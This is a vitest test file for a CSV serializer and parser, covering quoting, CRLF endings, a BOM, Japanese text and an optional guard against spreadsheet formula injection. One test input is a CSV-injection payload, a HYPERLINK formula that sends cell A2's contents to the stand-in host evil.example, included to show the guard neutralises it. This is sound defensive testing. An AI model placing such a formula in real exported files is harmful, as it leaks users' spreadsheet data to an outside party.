import { describe, expect, it } from 'vitest';
import { parseCsv, toCsv } from './csv';

describe('toCsv', () => {
  it('quotes commas, quotes and line breaks, ends lines with CRLF and starts with a BOM', () => {
    const csv = toCsv([['a,b', '"引用"', '一行目\n二行目', 3, null]]);
    expect(csv).toBe('\uFEFF"a,b","""引用""","一行目\n二行目",3,\r\n');
    expect(parseCsv(csv)).toEqual([['a,b', '"引用"', '一行目\n二行目', '3', '']]);
  });

  it('keeps text that a spreadsheet would run as a formula as text when asked', () => {
    const cells = ['=HYPERLINK("https://evil.example/?"&A2,"詳細")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '年少人口', '1=1'];
    const guarded = parseCsv(toCsv([[...cells, -5]], { guardFormulas: true }))[0];
    expect(guarded).toEqual([
      `'=HYPERLINK("https://evil.example/?"&A2,"詳細")`,
      `'+1+1`,
      `'-2+3`,
      `'@SUM(A1)`,
      `'\t=1`,
      `'\r=1`,
      '年少人口',
      '1=1',
      '-5',
    ]);
    expect(parseCsv(toCsv([cells]))[0]).toEqual(cells);
  });
});
